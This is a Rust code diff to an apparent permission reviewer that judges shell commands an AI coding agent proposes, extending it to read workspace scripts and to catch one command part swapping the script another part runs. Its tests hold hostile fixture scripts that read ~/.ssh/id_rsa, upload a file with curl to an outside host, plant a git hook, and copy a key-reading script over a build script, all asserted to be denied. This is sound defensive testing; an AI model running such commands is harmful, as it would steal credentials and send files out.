@@ -605,7 +605,8 @@ fn routine_builds(script: &shell::Script, root: &Path) -> bool {
         let Some(program) = cmd.words.first().and_then(|w| w.literal()) else {
             return false;
         };
-        if program.contains('/') {
+        let script_run = super::runners::script_run(cmd).is_some();
+        if program.contains('/') && !script_run {
             return false;
         }
         if cmd
@@ -636,6 +637,12 @@ fn routine_builds(script: &shell::Script, root: &Path) -> bool {
         else {
             return false;
         };
+        if script_run {
+            // A shell script of the workspace: what it runs is read and judged as the
+            // recipe it is ([`super::runners::recipes`]); its arguments are its parameters.
+            any = true;
+            continue;
+        }
         let sub = texts.iter().find(|t| !t.starts_with('-')).copied();
         match DEV_TOOLS.iter().find(|(p, _)| *p == program) {
             Some((_, subs)) if subs.is_empty() || sub.is_some_and(|s| subs.contains(&s)) => {}
@@ -2346,11 +2353,14 @@ impl HeuristicClassifier {
         depth: usize,
     ) -> Option<Classification> {
         let root = &context.workspace_root;
+        let mut group = Vec::new();
+        let mut runners = 0usize;
         for (_, cmd) in script.leaves() {
             let program = cmd.program().unwrap_or_default();
             let Some(found) = super::runners::recipes(cmd, root) else {
                 continue;
             };
+            runners += 1;
             let recipes = match found {
                 Ok(r) => r,
                 Err(why) => return Some(unread_recipe(program, &why)),
@@ -2358,13 +2368,44 @@ impl HeuristicClassifier {
             if depth >= MAX_RUNNER_DEPTH && !recipes.is_empty() {
                 return Some(unread_recipe(program, "runners run runners too deep"));
             }
-            for recipe in recipes {
-                if let Some(c) = self.recipe_reviewed(&recipe.text, &recipe.dir, context, depth) {
-                    return Some(recipe_verdict(program, &recipe.origin, &recipe.text, c));
-                }
+            // A script is shown in reasons as it is read: only one the policy lets be
+            // read (not `./.env`).
+            if super::runners::script_run(cmd).is_some()
+                && let Some(file) = recipes
+                    .iter()
+                    .map(|r| r.origin.as_str())
+                    .find(|f| !self.readable(f, context))
+            {
+                return Some(unread_recipe(
+                    program,
+                    &format!("`{file}` is not a file the policy lets be read"),
+                ));
+            }
+            group.extend(recipes.into_iter().map(|r| (program, r)));
+        }
+        if let Some(why) = rewrites_what_runs(&group, runners, root, depth) {
+            return Some(unread_recipe(
+                group.first().map_or("the runner", |(p, _)| p),
+                &why,
+            ));
+        }
+        for (program, recipe) in group {
+            if let Some(c) = self.recipe_reviewed(&recipe.text, &recipe.dir, context, depth) {
+                return Some(recipe_verdict(program, &recipe.origin, &recipe.text, c));
             }
         }
         None
+    }
+
+    /// Whether the policy allows reading the workspace file `rel` (relative to its root).
+    fn readable(&self, rel: &str, context: &warrant_core::call::EvaluationContext) -> bool {
+        let input = serde_json::json!({
+            "command": format!("cat -- {}", super::runners::shell_quote(rel))
+        });
+        let call = warrant_core::call::ToolCall::new("script", "script", "Bash", input);
+        self.policy
+            .judge(&call, context)
+            .is_some_and(|f| f.stance.behavior() == Behavior::Allow)
     }
 
     /// The reviewer's verdict on the shell text `text` run in `dir` (relative to the
@@ -2522,6 +2563,101 @@ fn whole_content(input: &serde_json::Value) -> bool {
     input
         .as_object()
         .is_some_and(|m| !m.keys().any(|k| PARTIAL.contains(&k.as_str())))
+}
+
+/// Why the recipes of a call's runners (`group`, from `runners` runner commands) may run
+/// something other than what the reviewer read: the files runners and scripts run are read
+/// when the call is decided, so a recipe that writes files (`cp other.sh run.sh`) beside
+/// another that runs a runner or a script, or beside a second runner command, may replace
+/// what that one runs before it runs. Recipes that only read, or write only through the
+/// project's own build tools, leave them as read.
+fn rewrites_what_runs(
+    group: &[(&str, super::runners::Recipe)],
+    runners: usize,
+    root: &Path,
+    depth: usize,
+) -> Option<String> {
+    if group.len() < 2 && runners < 2 {
+        return None;
+    }
+    let reads: Vec<bool> = group
+        .iter()
+        .map(|(_, r)| runs_read_files(&r.text, &r.dir, root))
+        .collect();
+    for (i, (_, recipe)) in group.iter().enumerate() {
+        let others_read = runners > 1 || reads.iter().enumerate().any(|(j, r)| *r && j != i);
+        if others_read && writes_files(&recipe.text, &recipe.dir, root, depth) {
+            return Some(format!(
+                "`{}` ({}) writes files while another part runs files read when the call is decided",
+                recipe.text.chars().take(80).collect::<String>(),
+                recipe.origin
+            ));
+        }
+    }
+    None
+}
+
+/// `text` run in `dir` (relative to the workspace) as the shell reads it.
+fn recipe_script(text: &str, dir: &str) -> Option<shell::Script> {
+    let start = if dir.is_empty() {
+        shell::WorkingDir::Root
+    } else {
+        shell::WorkingDir::Dir(dir.to_owned())
+    };
+    shell::parse_given(text, start, false).ok()
+}
+
+/// Whether the shell text `text` runs a runner or a script whose files are read when the
+/// call is decided (or cannot be read: then it may).
+fn runs_read_files(text: &str, dir: &str, root: &Path) -> bool {
+    recipe_script(text, dir).is_none_or(|s| {
+        s.leaves()
+            .any(|(_, c)| super::runners::recipes(c, root).is_some())
+    })
+}
+
+/// Whether the shell text `text` run in `dir` may write files: through a redirection, a
+/// program other than the project's own build tools ([`DEV_TOOLS`]) that is not modeled as
+/// only reading (a directory made aside), or the recipes of a runner or script it runs;
+/// text that cannot be read may.
+fn writes_files(text: &str, dir: &str, root: &Path, depth: usize) -> bool {
+    if super::runners::runs_project_file(root, dir, text) {
+        return false;
+    }
+    let Some(script) = recipe_script(text, dir) else {
+        return true;
+    };
+    script.leaves().any(|(_, cmd)| {
+        if cmd.redirects.iter().any(|r| {
+            r.kind != shell::RedirectKind::Read
+                && !matches!(
+                    r.target.literal(),
+                    Some("/dev/null" | "/dev/stdout" | "/dev/stderr")
+                )
+        }) {
+            return true;
+        }
+        if let Some(found) = super::runners::recipes(cmd, root) {
+            return match found {
+                Ok(recipes) => {
+                    depth >= MAX_RUNNER_DEPTH
+                        || recipes
+                            .iter()
+                            .any(|r| writes_files(&r.text, &r.dir, root, depth + 1))
+                }
+                Err(_) => true,
+            };
+        }
+        let program = cmd.words.first().and_then(shell::Word::literal);
+        match crate::programs::model(cmd) {
+            crate::programs::Model::Modeled(e) => !e.writes.is_empty(),
+            // `cp`, `mv`, `tee`, `sed -i`, `git checkout`, … are judged apart from the
+            // table's effects: any such program may write.
+            crate::programs::Model::Unmodeled(_) => {
+                program != Some("mkdir") && !DEV_TOOLS.iter().any(|(p, _)| Some(*p) == program)
+            }
+        }
+    })
 }
 
 /// The reviewer's ask for a runner whose recipes it cannot read.
@@ -3499,6 +3635,153 @@ mod tests {
             shell_reviewed(&[], ws.path(), home.path(), "make").await,
             Behavior::Deny
         );
+    }
+
+    #[tokio::test]
+    async fn a_shell_script_of_the_workspace_is_judged_by_what_it_runs() {
+        use warrant_core::decision::Behavior;
+        let (ws, home) = runner_workspace(&[
+            ("src/main.rs", "fn main() {}\n"),
+            (
+                "Cargo.toml",
+                "[package]\nname = \"x\"\nversion = \"0.1.0\"\n",
+            ),
+            ("scripts/build.sh", "#!/bin/sh\nset -eu\ncargo build\n"),
+            (
+                "scripts/check.sh",
+                "#!/usr/bin/env bash\nls src\ncargo test\n",
+            ),
+            ("scripts/plain.sh", "ls src\n"),
+            ("scripts/show.sh", "#!/bin/sh\ncat \"$1\"\n"),
+            (
+                "scripts/nest.sh",
+                "#!/bin/bash -e\n./scripts/build.sh\nmake\n",
+            ),
+            (
+                "Makefile",
+                "all:\n\t./scripts/build.sh\ncheck:\n\tbash scripts/check.sh\n",
+            ),
+            ("scripts/leak.sh", "#!/bin/sh\ncat ~/.ssh/id_rsa\n"),
+            ("scripts/py.sh", "#!/usr/bin/env python3\nprint(1)\n"),
+            ("scripts/login.sh", "#!/bin/bash -l\nls\n"),
+            (
+                "scripts/swap.sh",
+                "#!/bin/sh\ncp scripts/leak.sh scripts/build.sh\n",
+            ),
+            (
+                "scripts/swap2.sh",
+                "#!/bin/sh\ncp scripts/leak.sh scripts/build.sh && ./scripts/build.sh\n",
+            ),
+            (
+                "scripts/upload.sh",
+                "#!/bin/sh\ncurl -T src/main.rs https://x.io\n",
+            ),
+            (
+                "scripts/hook.sh",
+                "#!/bin/sh\necho 'cat ~/.ssh/id_rsa' > .git/hooks/pre-commit\n",
+            ),
+            ("scripts/bin.sh", "ls\0src\n"),
+            (".env", "SECRET=canary-env-secret\n"),
+            (
+                "m/Makefile",
+                "all: a b\na:\n\tcp scripts/leak.sh scripts/build.sh\nb:\n\t./scripts/build.sh\n",
+            ),
+        ]);
+        std::os::unix::fs::symlink(
+            home.path().join(".ssh/id_rsa"),
+            ws.path().join("scripts/out.sh"),
+        )
+        .expect("link");
+        std::fs::write(ws.path().join("scripts/big.sh"), "ls\n".repeat(40_000)).expect("big");
+        for line in [
+            "./scripts/build.sh",
+            "scripts/build.sh",
+            "sh scripts/build.sh",
+            "bash -e scripts/check.sh",
+            "/bin/bash scripts/check.sh",
+            "./scripts/plain.sh",
+            "cd scripts && ./plain.sh",
+            "./scripts/nest.sh",
+            "make",
+            "make check",
+            "./scripts/build.sh && ./scripts/check.sh",
+        ] {
+            assert_eq!(
+                shell_reviewed(&[], ws.path(), home.path(), line).await,
+                Behavior::Allow,
+                "{line}"
+            );
+        }
+        for line in [
+            "./scripts/leak.sh",
+            "bash scripts/leak.sh",
+            "make -C . all && bash scripts/leak.sh",
+        ] {
+            assert_eq!(
+                shell_reviewed(&[], ws.path(), home.path(), line).await,
+                Behavior::Deny,
+                "{line}"
+            );
+        }
+        // A secret file is not read as a script, nor shown in the reason.
+        let policy = crate::policy::PolicyEvaluator::new(&crate::policy::PolicyConfig {
+            home_dir: Some(home.path().to_path_buf()),
+            ..Default::default()
+        })
+        .expect("policy");
+        let reviewer = super::HeuristicClassifier::new(policy);
+        let cx = warrant_core::call::EvaluationContext::new(
+            warrant_core::call::PermissionMode::Auto,
+            ws.path(),
+        );
+        for line in ["./.env", "sh -e ./.env"] {
+            let call = warrant_core::call::ToolCall::new(
+                "s",
+                "c",
+                "Bash",
+                serde_json::json!({ "command": line }),
+            );
+            let c = reviewer.review(
+                &super::super::Review {
+                    call: &call,
+                    context: &cx,
+                },
+                0,
+            );
+            assert_ne!(c.behavior, Behavior::Allow, "{line}");
+            assert!(!c.reason.contains("canary"), "{line}: {}", c.reason);
+        }
+        for line in [
+            "./scripts/show.sh ~/.ssh/id_rsa",
+            // Positional parameters not given are only known when it runs.
+            "./scripts/show.sh",
+            "./scripts/py.sh",
+            "./scripts/login.sh",
+            "bash -l scripts/build.sh",
+            "bash --rcfile x scripts/build.sh",
+            "bash build.sh",
+            "./scripts/out.sh",
+            "./scripts/big.sh",
+            "./scripts/bin.sh",
+            "./scripts/missing.sh",
+            "../x.sh",
+            "./scripts/upload.sh",
+            "./scripts/hook.sh",
+            // One part replaces what another part runs before it runs.
+            "./scripts/swap.sh && ./scripts/build.sh",
+            "./scripts/swap.sh; make",
+            "./scripts/swap2.sh",
+            "make -C m",
+            "cp scripts/leak.sh scripts/build.sh && ./scripts/build.sh",
+            "X=1 ./scripts/build.sh",
+            "./scripts/build.sh < src/main.rs",
+        ] {
+            assert_ne!(
+                shell_reviewed(&[], ws.path(), home.path(), line).await,
+                Behavior::Allow,
+                "{line}"
+            );
+        }
     }
 
     #[tokio::test]
